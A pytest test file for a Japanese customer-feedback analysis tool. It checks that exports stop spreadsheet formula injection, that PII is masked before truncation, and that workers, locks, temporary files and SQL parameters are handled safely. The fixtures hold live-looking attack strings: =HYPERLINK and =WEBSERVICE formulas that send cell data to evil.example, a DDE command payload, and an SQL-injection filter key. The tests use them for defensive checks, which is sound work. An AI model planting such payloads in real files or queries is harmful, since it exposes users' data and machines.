"""Data safety: customer text never becomes a formula in anything we write, masking survives
cutting, exit statuses tell the truth under concurrency, workers die with their parent, files
that are not ours (or are newer than us) are never written, user values are bound parameters."""

from __future__ import annotations

import csv
import os
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from voc_app.analysis import analyze_project
from voc_app.cli import main
from voc_app.export.safe import FORMULA_PREFIXES, csv_text, tsv_cell
from voc_app.importing import import_file
from voc_app.signals import score_project
from voc_app.store import Project
from voc_app.store.db import ProjectError
from voc_app.store.report import Filter

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(F3))'
DDE = "=cmd|' /C calc'!A0"
ATTACKS = [HYPERLINK, WEBSERVICE, DDE, "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _survey(path: Path) -> Path:
    rows = [
        ["顧客ID", "=年代", "おすすめ度（0〜10）", '=HYPERLINK("http://evil.example","質問")'],
        ["=1+1", "=30代", "9", HYPERLINK + " 配送が早くて嬉しかったです"],
        ["-2+3", "@年代", "2", WEBSERVICE + " 二度と買いません。解約します"],
        ["@SUM(1)", "+40代", "3", DDE],
        ["K0004", "20代", "10", "+友達に勧めました。とても良い"],
        ["K0005", "20代", "1", "-最悪でした。返品したいです"],
        ["K0006", "50代", "8", "\t=1+1 タブで始まる"],
        ["K0007", "50代", "7", "@メンション 梱包が丁寧"],
    ]
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    d = tmp_path_factory.mktemp("attack")
    proj = d / "a.voc"
    assert main(["new", str(proj)]) == 0
    assert main(["import", str(proj), str(_survey(d / "s.csv")), "--no-progress"]) == 0
    assert main(["analyze", str(proj), "--workers", "1"]) == 0
    assert main(["topics", str(proj), "--side", "all"]) == 0
    assert main(["codebook", str(proj), "add", "=1+2", "--description", HYPERLINK, "--rule", "配送"]) == 0
    assert main(["codebook", str(proj), "add", "@SUM(1+1)", "--description", DDE]) == 0
    assert main(["tag", str(proj), "1", "=1+2", "--coder", "=evil"]) == 0
    assert main(["tag", str(proj), "2", "@SUM(1+1)", "--coder", "=evil", "--span", "0:5"]) == 0
    assert main(["memo", str(proj), "verbatim", "1", WEBSERVICE]) == 0
    with Project(proj) as p:
        score_project(p)
        flagged = p.conn.execute("SELECT c.external_id FROM customer_scores s JOIN customers c ON c.id = s.customer_id"
                                 " WHERE s.churn_flag").fetchall()
    if flagged:
        assert main(["review", "--kind", "churn", "--state", "contacted", "--note", HYPERLINK, str(proj), "--",
                     flagged[0][0]]) == 0
    return proj


def _xlsx_formulas(path: Path) -> list[str]:
    """Formula elements anywhere in the workbook's sheets (raw XML: nothing hides there)."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n) or
                n.startswith("xl/worksheets/") and b"<f " in z.read(n)]


def _assert_csv_safe(path: Path, encoding: str, delimiter: str = ",") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as f:
        rows = list(csv.reader(f, delimiter=delimiter))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                try:
                    float(cell)  # a number we computed (e.g. -0.5) stays a number
                except ValueError:
                    pytest.fail(f"{path.name}: formula-like cell written unprefixed: {cell!r}")
    return rows


def test_xlsx_never_holds_a_formula(attacked, tmp_path):
    for mask in ([], ["--mask-pii"]):
        out = tmp_path / f"r{len(mask)}.xlsx"
        assert main(["export", str(attacked), str(out), *mask]) == 0
        assert _xlsx_formulas(out) == []
        wb = load_workbook(out)
        seen = set()
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                    if isinstance(c.value, str):
                        seen.update(a for a in ATTACKS if a.strip() in c.value)
        # the attacks arrive as text (verbatims, codes, descriptions, question, attribute, customer)
        assert {HYPERLINK, WEBSERVICE, DDE} <= seen or mask
        verbatims = [r for r in wb["発言一覧"].iter_rows(min_row=2, values_only=True)]
        texts = [r[5] for r in verbatims]
        assert any(t.startswith("=HYPERLINK(") for t in texts)
        customers = {r[4] for r in verbatims}
        if not mask:
            assert {"=1+1", "-2+3", "@SUM(1)"} <= customers
        questions = {r[2] for r in verbatims}
        assert '=HYPERLINK("http://evil.example","質問")' in questions
        codes = [r[0] for r in wb["コード"].iter_rows(values_only=True) if r and r[0]]
        assert "=1+2" in codes and "@SUM(1+1)" in codes


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_csv_exports_prefix_formula_like_text(attacked, tmp_path, encoding):
    out = tmp_path / "v.csv"
    assert main(["export", str(attacked), str(out), "--encoding", encoding]) == 0
    rows = _assert_csv_safe(out, "utf-8-sig" if encoding == "utf-8" else "cp932")
    assert any(r[5] == "'" + HYPERLINK + " 配送が早くて嬉しかったです" for r in rows)
    assert any(r[4] == "'=1+1" for r in rows)
    coded = tmp_path / "c.csv"
    assert main(["coded", str(attacked), str(coded), "--encoding", encoding]) == 0
    rows = _assert_csv_safe(coded, "utf-8-sig" if encoding == "utf-8" else "cp932")
    assert any("'=1+2" in r for r in rows) and any("'=evil" in r for r in rows)


def test_codebook_csv_is_safe_and_round_trips(attacked, tmp_path):
    out = tmp_path / "book.csv"
    assert main(["codebook", str(attacked), "export", str(out)]) == 0
    rows = _assert_csv_safe(out, "utf-8-sig")
    assert ["'=1+2", "", "", "'" + HYPERLINK] == rows[1][:4] or any(r[0] == "'=1+2" for r in rows)
    other = tmp_path / "o.voc"
    assert main(["new", str(other)]) == 0
    assert main(["codebook", str(other), "import", str(out)]) == 0
    with Project(other) as p:
        names = {r[0]: r[1] for r in p.conn.execute("SELECT name, description FROM codes")}
    assert names["=1+2"].startswith(HYPERLINK)  # read back without the apostrophe
    assert names["@SUM(1+1)"].startswith(DDE)


def test_cli_tsv_files_and_tables_are_safe(attacked, tmp_path, capsys):
    src = tmp_path / "in.tsv"
    src.write_text("id\ttext\n=1+1\t" + HYPERLINK + "\n-3\t@SUM(1)\n", encoding="utf-8")
    out = tmp_path / "out.tsv"
    assert main(["classify", str(src), "--text-column", "text", "--out", str(out)]) == 0
    rows = _assert_csv_safe(out, "utf-8", "\t")
    assert rows[1][0] == "'=1+1" and rows[1][1] == "'" + HYPERLINK
    capsys.readouterr()
    assert main(["signals", str(attacked), "--format", "tsv"]) == 0
    assert main(["words", str(attacked), "freq", "--top", "500"]) == 0
    assert main(["crosstab", str(attacked), "--by", "=年代"]) == 0
    for line in capsys.readouterr().out.splitlines():
        for cell in line.split("\t"):
            assert not cell.startswith(("=", "@", "+")), line


def test_safe_cell_helpers():
    assert csv_text("=1") == "'=1" and csv_text("-x") == "'-x" and csv_text("\r1") == "'\r1"
    assert csv_text(-0.5) == -0.5 and csv_text(3) == 3 and csv_text(None) == "" and csv_text("ok") == "ok"
    assert tsv_cell("=a\tb\nc") == "'=a b c"


# --- masking: mask first, then cut --------------------------------------------------------------

def test_reasons_and_quotes_are_masked_before_they_are_cut(tmp_path):
    from nlp.scoring import _quote

    long_phone = "解約したいです。連絡は090-1111-2222までお願いします"
    q = _quote(long_phone, n=12)
    assert "090-1111-2222" in q  # the cut never splits the number, so the mask sees all of it
    src = tmp_path / "s.csv"
    src.write_text("顧客ID,おすすめ度（0〜10）,ご意見\n"
                   "K1,0,もう解約します。連絡は090-1111-2222まで、メールは taro.yamada.longname@example.co.jp です\n"
                   "K1,0,二度と使いません。最悪です。電話 090-1111-2222\n", encoding="utf-8")
    proj = tmp_path / "m.voc"
    with Project.create(proj) as p:
        import_file(p, src)
        analyze_project(p, workers=1)
        score_project(p)
    out = tmp_path / "m.xlsx"
    assert main(["export", str(proj), str(out), "--mask-pii"]) == 0
    wb = load_workbook(out, read_only=True)
    text = "\n".join(str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if c)
    for leak in ("090-1", "1111", "2222", "taro", "yamada", "example.co"):
        assert leak not in text, leak
    assert "［電話番号］" in text


# --- exit statuses that tell the truth ----------------------------------------------------------

def _cli(*args: str, **kw) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "voc_app.cli", *args], cwd=ROOT, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, **kw)


def test_two_concurrent_imports_both_succeed(tmp_path, fixtures):
    proj = tmp_path / "c.voc"
    with Project.create(proj):
        pass
    files = []
    for k in range(2):
        f = tmp_path / f"s{k}.csv"
        f.write_text("回答ID,顧客ID,ご意見\n" + "".join(f"{k}-{i},K{k}{i:05d},配送が早くて助かりました {k} {i}\n"
                                                   for i in range(3000)), encoding="utf-8")
        files.append(f)
    procs = [_cli("import", str(proj), str(f), "--no-progress") for f in files]
    outs = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    with Project(proj) as p:
        assert p.conn.execute("SELECT count(*) FROM verbatims").fetchone()[0] == 6000
        assert p.conn.execute("SELECT count(*) FROM batches").fetchone()[0] == 2


def test_close_never_turns_success_into_failure(tmp_path):
    proj = tmp_path / "l.voc"
    p = Project.create(proj)
    other = sqlite3.connect(proj, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another process holds the write lock while we close
    t0 = time.monotonic()
    p.close()  # PRAGMA optimize cannot run: skipped, no error, no wait
    assert time.monotonic() - t0 < 5
    other.execute("ROLLBACK")
    other.close()

    class Locked:  # a connection whose housekeeping fails the way a busy or read-only file does
        def __init__(self, conn):
            self._c, self.in_transaction, self.closed = conn, False, False

        def execute(self, sql, *a):
            if "optimize" in sql:
                raise sqlite3.OperationalError("database is locked")
            return self._c.execute(sql, *a)

        def close(self):
            self.closed = True
            self._c.close()

    p = Project(proj)
    p.conn = Locked(p.conn)
    p.close()
    assert p.conn.closed


# --- workers end with their parent ------------------------------------------------------------

def _children(pid: int) -> set[int]:
    out = set()
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                stat = (d / "stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                out.add(int(d.name))
    return out


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] != "Z"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc")
def test_killed_analysis_leaves_no_workers(tmp_path):
    proj = tmp_path / "w.voc"
    src = tmp_path / "big.csv"
    src.write_text("回答ID,顧客ID,ご意見\n" + "".join(
        f"{i},K{i % 900:05d},届いた箱が潰れていて残念でしたが、対応は早くて助かりました。番号{i}の件です\n"
        for i in range(40_000)), encoding="utf-8")
    with Project.create(proj) as p:
        import_file(p, src)
    proc = subprocess.Popen([sys.executable, "-m", "voc_app.cli", "analyze", str(proj), "--workers", "2"], cwd=ROOT,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers: set[int] = set()
    deadline = time.time() + 120
    while time.time() < deadline and proc.poll() is None:
        workers = {c for c in _children(proc.pid) if _alive(c)}
        if len(workers) >= 2:
            break
        time.sleep(0.1)
    assert proc.poll() is None and workers, "the analysis ended before its workers could be seen"
    time.sleep(0.5)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.time() + 5
    while time.time() < deadline and any(_alive(w) for w in workers):
        time.sleep(0.1)
    assert not any(_alive(w) for w in workers), "workers outlived their killed parent by 5 s"
    with Project(proj) as p:
        assert p.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


# --- files we must not touch --------------------------------------------------------------------

def test_foreign_sqlite_file_is_refused_byte_identical(tmp_path):
    f = tmp_path / "other.db"
    c = sqlite3.connect(f)
    c.execute("CREATE TABLE t (x)")
    c.execute("INSERT INTO t VALUES (1)")
    c.commit()
    c.close()
    before = f.read_bytes()
    with pytest.raises(ProjectError, match="プロジェクトではありません"):
        Project(f)
    assert main(["info", str(f)]) != 0
    assert main(["import", str(f), str(ROOT / "tests" / "fixtures" / "google_forms.csv")]) != 0
    assert f.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.db"]  # no -wal / -shm left either
    junk = tmp_path / "notes.txt"
    junk.write_text("not a database", encoding="utf-8")
    with pytest.raises(ProjectError):
        Project(junk)
    assert junk.read_text(encoding="utf-8") == "not a database"


@pytest.mark.parametrize("how", ["user_version", "migration"])
def test_project_from_a_newer_version_is_refused(tmp_path, how):
    proj = tmp_path / "n.voc"
    with Project.create(proj) as p:
        if how == "user_version":
            p.conn.execute("PRAGMA user_version = 999")
        else:
            p.conn.execute("INSERT INTO _migrations VALUES ('999_from_the_future', '2030-01-01')")
    before = proj.read_bytes()
    with pytest.raises(ProjectError, match="新しいバージョン"):
        Project(proj)
    assert main(["info", str(proj)]) != 0
    assert proj.read_bytes() == before


# --- user values are bound parameters ----------------------------------------------------------

def test_filter_keys_and_attribute_names_are_parameters(tmp_path):
    src = tmp_path / "s.csv"
    src.write_text("顧客ID,it's,\"a\"\"b\",ご意見\nK1,x,1,配送が早くて嬉しい\nK2,y,2,梱包が雑で残念\n", encoding="utf-8")
    proj = tmp_path / "f.voc"
    with Project.create(proj) as p:
        import_file(p, src, format="table", overrides=[("attr", "it's"), ("attr", 'a"b'), ("text", "ご意見")])
        analyze_project(p, workers=1)
    out = tmp_path / "o.csv"
    assert main(["export", str(proj), str(out), "--filter", "it's=x"]) == 0
    assert len(list(csv.reader(open(out, encoding="utf-8-sig")))) == 2  # header + one verbatim
    assert main(["export", str(proj), str(out), "--filter", 'a"b=2']) == 0
    assert len(list(csv.reader(open(out, encoding="utf-8-sig")))) == 2
    # a crafted key matches nothing and changes no query: nothing is written (exit 2), the file
    # from before stays as it was
    crafted = "x') OR 1=1 OR json_extract('{}', '$.a"
    before = out.read_bytes()
    assert main(["export", str(proj), str(out), "--filter", f"{crafted}=1"]) == 2
    assert out.read_bytes() == before
    with Project(proj) as p:
        from voc_app.store import report as q

        assert q.select_verbatims(p.conn, Filter(where={"' OR 1=1 --": "x"})) == 0
        assert q.select_verbatims(p.conn, Filter(where={"it's": "y"})) == 1
        from voc_app.store.topics import breakdown_expr

        expr, params = breakdown_expr("it's")
        assert "it's" not in expr and params == ["it's", "it's"]


# --- exports killed on the way leave nothing behind ------------------------------------------

def test_interrupted_export_leaves_no_temporary_files(tmp_path, monkeypatch, attacked):
    import tempfile

    from base.errors import Cancelled
    from voc_app.export.excel import export

    shared_tmp = tmp_path / "shared-tmp"
    shared_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(shared_tmp))
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    seen: list[list[str]] = []

    def progress(f, m):
        seen.append(sorted(p.name for p in out_dir.iterdir()))
        if m.startswith("クロス集計"):
            raise Cancelled()

    with Project(attacked) as p, pytest.raises(Cancelled):
        export(p, out_dir / "r.xlsx", progress=progress)
    assert any(".r.xlsx.tmp" in s for s in seen)  # openpyxl's sheets were streamed beside the target
    assert list(out_dir.iterdir()) == [] and list(shared_tmp.iterdir()) == []
    # what a kill -9 leaves (a partial file, a scratch folder) is removed by the next export
    (out_dir / ".r.xlsx.part").write_bytes(b"partial")
    (out_dir / ".r.xlsx.tmp").mkdir()
    (out_dir / ".r.xlsx.tmp" / "openpyxl.x").write_text("顧客の声", encoding="utf-8")
    with Project(attacked) as p:
        export(p, out_dir / "r.xlsx")
    assert sorted(x.name for x in out_dir.iterdir()) == ["r.xlsx"] and list(shared_tmp.iterdir()) == []


def test_sigterm_during_export_removes_partial_files(tmp_path, attacked):
    out = tmp_path / "t.xlsx"
    proc = _cli("export", str(attacked), str(out))
    deadline = time.time() + 60
    while time.time() < deadline and proc.poll() is None and not (tmp_path / ".t.xlsx.tmp").exists():
        time.sleep(0.01)
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
    proc.communicate(timeout=60)
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.startswith(".t.xlsx")]
    assert leftovers == []
